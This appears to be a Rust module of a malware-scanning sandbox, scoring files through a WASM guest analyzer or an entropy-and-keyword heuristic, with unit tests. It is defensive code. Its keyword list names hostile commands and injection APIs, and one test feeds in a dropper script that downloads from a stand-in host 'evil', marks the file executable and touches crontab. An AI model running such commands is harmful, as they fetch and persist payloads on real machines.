use std::time::{Duration, Instant};

use async_trait::async_trait;
use tracing::{debug, warn};

use super::SandboxError;

/// Tier 1 output: fast static/heuristic scores plus the observations that
/// produced them.
#[derive(Debug, Clone, Default)]
pub struct ScorerOutput {
    pub yara_score: f32,
    pub ml_score: f32,
    pub detected_behaviors: Vec<String>,
    pub triggered_rules: Vec<String>,
    pub timed_out: bool,
    pub execution_time: Duration,
}

/// Tier 1 scoring capability. The production implementation runs a guest
/// analyzer module under fuel/epoch/memory limits; the heuristic scorer
/// is the in-host fallback used whenever no guest module is installed.
#[async_trait]
pub trait Tier1Scorer: Send + Sync {
    async fn score(
        &self,
        data: &[u8],
        filename: &str,
        timeout: Duration,
    ) -> Result<ScorerOutput, SandboxError>;

    fn name(&self) -> &'static str;
}

// ---- Guest analyzer contract ----

/// Resource limits forwarded into the guest engine.
#[derive(Debug, Clone, Copy)]
pub struct GuestLimits {
    pub max_memory_bytes: u64,
    pub fuel_budget: u64,
    pub deadline: Duration,
}

/// A trap raised by the guest engine. Traps whose message mentions the
/// epoch deadline are deadline expiries, not failures.
#[derive(Debug, Clone, thiserror::Error)]
#[error("guest trap: {message}")]
pub struct GuestTrap {
    pub message: String,
}

impl GuestTrap {
    pub fn is_deadline(&self) -> bool {
        let msg = self.message.to_ascii_lowercase();
        msg.contains("epoch") || msg.contains("interrupt") || msg.contains("timeout")
    }
}

/// The loaded guest module capability. The module exports
/// `allocate`/`deallocate`/`analyze_file`/`memory`; implementations
/// collapse the copy-in, call, copy-out dance into one boundary call that
/// returns the raw 28-byte result struct.
pub trait GuestAnalyzer: Send + Sync {
    fn analyze(&self, data: &[u8], limits: &GuestLimits) -> Result<Vec<u8>, GuestTrap>;
}

/// Packed little-endian layout of the guest result struct:
/// `{f32 yara, f32 ml, u32 detected_patterns, u64 execution_time_us,
///   u32 error_code, u32 pad}` — 28 bytes total.
pub const ANALYZE_RESULT_SIZE: usize = 28;

#[derive(Debug, Clone, Copy, PartialEq)]
pub struct RawAnalysis {
    pub yara_score: f32,
    pub ml_score: f32,
    pub detected_patterns: u32,
    pub execution_time_us: u64,
    pub error_code: u32,
}

pub fn parse_analyze_result(bytes: &[u8]) -> Result<RawAnalysis, SandboxError> {
    if bytes.len() != ANALYZE_RESULT_SIZE {
        return Err(SandboxError::Scorer(format!(
            "guest result has wrong size: expected {ANALYZE_RESULT_SIZE}, got {}",
            bytes.len()
        )));
    }

    let f32_at = |off: usize| f32::from_le_bytes(bytes[off..off + 4].try_into().unwrap());
    let u32_at = |off: usize| u32::from_le_bytes(bytes[off..off + 4].try_into().unwrap());
    let u64_at = |off: usize| u64::from_le_bytes(bytes[off..off + 8].try_into().unwrap());

    Ok(RawAnalysis {
        yara_score: f32_at(0),
        ml_score: f32_at(4),
        detected_patterns: u32_at(8),
        execution_time_us: u64_at(12),
        error_code: u32_at(20),
    })
}

/// Tier 1 scorer backed by a guest analyzer module.
pub struct WasmScorer {
    guest: Box<dyn GuestAnalyzer>,
    max_memory_bytes: u64,
    fuel_budget: u64,
}

impl WasmScorer {
    pub fn new(guest: Box<dyn GuestAnalyzer>, max_memory_bytes: u64, fuel_budget: u64) -> Self {
        Self {
            guest,
            max_memory_bytes,
            fuel_budget,
        }
    }
}

#[async_trait]
impl Tier1Scorer for WasmScorer {
    async fn score(
        &self,
        data: &[u8],
        filename: &str,
        timeout: Duration,
    ) -> Result<ScorerOutput, SandboxError> {
        let start = Instant::now();
        let limits = GuestLimits {
            max_memory_bytes: self.max_memory_bytes,
            fuel_budget: self.fuel_budget,
            deadline: timeout,
        };

        let raw = match self.guest.analyze(data, &limits) {
            Ok(bytes) => parse_analyze_result(&bytes)?,
            Err(trap) if trap.is_deadline() => {
                debug!("guest analysis of '{filename}' hit the epoch deadline");
                return Ok(ScorerOutput {
                    timed_out: true,
                    execution_time: start.elapsed(),
                    ..Default::default()
                });
            }
            Err(trap) => return Err(SandboxError::Scorer(trap.message)),
        };

        if raw.error_code != 0 {
            return Err(SandboxError::Scorer(format!(
                "guest analyzer reported error code {}",
                raw.error_code
            )));
        }

        let mut output = ScorerOutput {
            yara_score: raw.yara_score.clamp(0.0, 1.0),
            ml_score: raw.ml_score.clamp(0.0, 1.0),
            execution_time: start.elapsed(),
            ..Default::default()
        };
        if raw.detected_patterns > 0 {
            output
                .detected_behaviors
                .push(format!("Guest analyzer matched {} suspicious patterns", raw.detected_patterns));
        }
        Ok(output)
    }

    fn name(&self) -> &'static str {
        "wasm-guest"
    }
}

// ---- Heuristic fallback scorer ----

const EICAR: &[u8] =
    br#"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"#;

/// (keyword, observation) pairs scanned case-insensitively.
const SUSPICIOUS_KEYWORDS: &[(&str, &str)] = &[
    ("powershell -enc", "Encoded PowerShell invocation"),
    ("cmd.exe /c", "Windows shell command execution"),
    ("createremotethread", "Remote thread injection API"),
    ("virtualallocex", "Remote memory allocation API"),
    ("writeprocessmemory", "Process memory tampering API"),
    ("loadlibrary", "Dynamic library injection strings"),
    ("regsetvalue", "Registry persistence strings"),
    ("/etc/passwd", "Credential file access strings"),
    ("chmod +x", "Self-marking executable"),
    ("crontab", "Cron persistence strings"),
    ("base64 -d", "Encoded payload decoding"),
    ("wget http", "Remote payload download"),
    ("curl http", "Remote payload download"),
    ("keylog", "Keylogging strings"),
    ("ransom", "Ransom note strings"),
    ("bitcoin", "Cryptocurrency wallet strings"),
    ("xmrig", "Cryptomining strings"),
];

/// In-host heuristic scorer: entropy, magic bytes, and keyword evidence.
/// Deliberately conservative so plain documents score near zero.
pub struct HeuristicScorer;

impl HeuristicScorer {
    pub fn new() -> Self {
        Self
    }

    fn analyze(data: &[u8]) -> ScorerOutput {
        let mut output = ScorerOutput::default();

        if contains_subsequence(data, EICAR) {
            output.yara_score = 1.0;
            output.ml_score = 1.0;
            output.triggered_rules.push("EICAR-Test-File".to_string());
            output
                .detected_behaviors
                .push("EICAR antivirus test signature".to_string());
            return output;
        }

        let entropy = shannon_entropy(data);
        let is_executable = matches_executable_magic(data);
        let is_script = data.starts_with(b"#!");

        let haystack = lowercase_prefix(data, 1 << 20);
        let mut keyword_hits = 0usize;
        for (needle, observation) in SUSPICIOUS_KEYWORDS {
            if haystack.windows(needle.len()).any(|w| w == needle.as_bytes()) {
                keyword_hits += 1;
                output.detected_behaviors.push((*observation).to_string());
            }
        }

        let mut yara = (keyword_hits as f32) * 0.15;
        if is_executable && keyword_hits > 0 {
            yara += 0.1;
        }
        output.yara_score = yara.min(0.9);
        if keyword_hits > 0 {
            output.triggered_rules.push("SuspiciousKeywords".to_string());
        }

        let mut ml = 0.0f32;
        if entropy > 7.5 {
            ml += 0.4;
            output
                .detected_behaviors
                .push("High-entropy payload (possible packing or encryption)".to_string());
            output.triggered_rules.push("PackedPayload".to_string());
        } else if entropy > 6.5 {
            ml += 0.2;
        }
        if is_executable {
            ml += 0.2;
            output
                .detected_behaviors
                .push("Native executable header".to_string());
        }
        if is_script {
            ml += 0.1;
        }
        if keyword_hits >= 3 {
            ml += 0.3;
        } else if keyword_hits >= 1 {
            ml += 0.15;
        }
        output.ml_score = ml.min(1.0);

        output
    }
}

impl Default for HeuristicScorer {
    fn default() -> Self {
        Self::new()
    }
}

#[async_trait]
impl Tier1Scorer for HeuristicScorer {
    async fn score(
        &self,
        data: &[u8],
        filename: &str,
        _timeout: Duration,
    ) -> Result<ScorerOutput, SandboxError> {
        let start = Instant::now();
        let mut output = Self::analyze(data);
        output.execution_time = start.elapsed();

        if output.yara_score > 0.5 || output.ml_score > 0.5 {
            warn!(
                "heuristic scorer flagged '{filename}': yara {:.2}, ml {:.2}",
                output.yara_score, output.ml_score
            );
        }
        Ok(output)
    }

    fn name(&self) -> &'static str {
        "heuristic"
    }
}

fn matches_executable_magic(data: &[u8]) -> bool {
    data.starts_with(b"MZ") || data.starts_with(b"\x7fELF") || data.starts_with(b"\xca\xfe\xba\xbe")
}

fn lowercase_prefix(data: &[u8], max: usize) -> Vec<u8> {
    data.iter().take(max).map(|b| b.to_ascii_lowercase()).collect()
}

fn contains_subsequence(haystack: &[u8], needle: &[u8]) -> bool {
    !needle.is_empty() && haystack.windows(needle.len()).any(|w| w == needle)
}

/// Shannon entropy in bits per byte (0.0 - 8.0).
pub fn shannon_entropy(data: &[u8]) -> f64 {
    if data.is_empty() {
        return 0.0;
    }

    let mut counts = [0u64; 256];
    for &byte in data {
        counts[byte as usize] += 1;
    }

    let len = data.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / len;
            -p * p.log2()
        })
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn entropy_of_uniform_bytes_is_high() {
        let data: Vec<u8> = (0..=255u8).cycle().take(4096).collect();
        assert!(shannon_entropy(&data) > 7.9);
    }

    #[test]
    fn entropy_of_repeated_byte_is_zero() {
        assert_eq!(shannon_entropy(&[0x41; 1024]), 0.0);
    }

    #[tokio::test]
    async fn benign_text_scores_near_zero() {
        let scorer = HeuristicScorer::new();
        let doc = b"Dear colleague,\n\nPlease find attached the quarterly report.\nBest regards.\n";
        let out = scorer.score(doc, "report.txt", Duration::from_secs(5)).await.unwrap();
        assert!(out.yara_score < 0.1, "yara was {}", out.yara_score);
        assert!(out.ml_score < 0.3, "ml was {}", out.ml_score);
        assert!(!out.timed_out);
    }

    #[tokio::test]
    async fn eicar_is_flagged_hard() {
        let scorer = HeuristicScorer::new();
        let out = scorer.score(EICAR, "eicar.com", Duration::from_secs(5)).await.unwrap();
        assert_eq!(out.yara_score, 1.0);
        assert_eq!(out.ml_score, 1.0);
        assert!(out.triggered_rules.iter().any(|r| r == "EICAR-Test-File"));
    }

    #[tokio::test]
    async fn keyword_laden_script_scores_up() {
        let scorer = HeuristicScorer::new();
        let script = b"#!/bin/sh\nwget http://evil/x.bin\nchmod +x x.bin\ncrontab -e\n";
        let out = scorer.score(script, "dropper.sh", Duration::from_secs(5)).await.unwrap();
        assert!(out.yara_score >= 0.4, "yara was {}", out.yara_score);
        assert!(out.ml_score >= 0.4, "ml was {}", out.ml_score);
        assert!(out.triggered_rules.iter().any(|r| r == "SuspiciousKeywords"));
        assert!(!out.detected_behaviors.is_empty());
    }

    #[test]
    fn parse_rejects_wrong_size() {
        assert!(parse_analyze_result(&[0u8; 27]).is_err());
        assert!(parse_analyze_result(&[0u8; 29]).is_err());
    }

    #[test]
    fn parse_reads_packed_little_endian_layout() {
        let mut bytes = Vec::new();
        bytes.extend_from_slice(&0.75f32.to_le_bytes());
        bytes.extend_from_slice(&0.5f32.to_le_bytes());
        bytes.extend_from_slice(&7u32.to_le_bytes());
        bytes.extend_from_slice(&1234u64.to_le_bytes());
        bytes.extend_from_slice(&0u32.to_le_bytes());
        bytes.extend_from_slice(&0u32.to_le_bytes());

        let raw = parse_analyze_result(&bytes).unwrap();
        assert_eq!(raw.yara_score, 0.75);
        assert_eq!(raw.ml_score, 0.5);
        assert_eq!(raw.detected_patterns, 7);
        assert_eq!(raw.execution_time_us, 1234);
        assert_eq!(raw.error_code, 0);
    }

    struct TrapGuest(&'static str);
    impl GuestAnalyzer for TrapGuest {
        fn analyze(&self, _data: &[u8], _limits: &GuestLimits) -> Result<Vec<u8>, GuestTrap> {
            Err(GuestTrap { message: self.0.to_string() })
        }
    }

    #[tokio::test]
    async fn epoch_trap_becomes_timeout_not_error() {
        let scorer = WasmScorer::new(Box::new(TrapGuest("wasm trap: epoch deadline exceeded")), 1024, 1000);
        let out = scorer.score(b"x", "f", Duration::from_millis(10)).await.unwrap();
        assert!(out.timed_out);
        assert_eq!(out.yara_score, 0.0);
        assert_eq!(out.ml_score, 0.0);
    }

    #[tokio::test]
    async fn other_traps_propagate_as_errors() {
        let scorer = WasmScorer::new(Box::new(TrapGuest("wasm trap: unreachable executed")), 1024, 1000);
        assert!(scorer.score(b"x", "f", Duration::from_millis(10)).await.is_err());
    }

    struct FixedGuest(Vec<u8>);
    impl GuestAnalyzer for FixedGuest {
        fn analyze(&self, _data: &[u8], _limits: &GuestLimits) -> Result<Vec<u8>, GuestTrap> {
            Ok(self.0.clone())
        }
    }

    #[tokio::test]
    async fn guest_error_code_is_an_error() {
        let mut bytes = vec![0u8; ANALYZE_RESULT_SIZE];
        bytes[20..24].copy_from_slice(&3u32.to_le_bytes());
        let scorer = WasmScorer::new(Box::new(FixedGuest(bytes)), 1024, 1000);
        assert!(scorer.score(b"x", "f", Duration::from_millis(10)).await.is_err());
    }
}
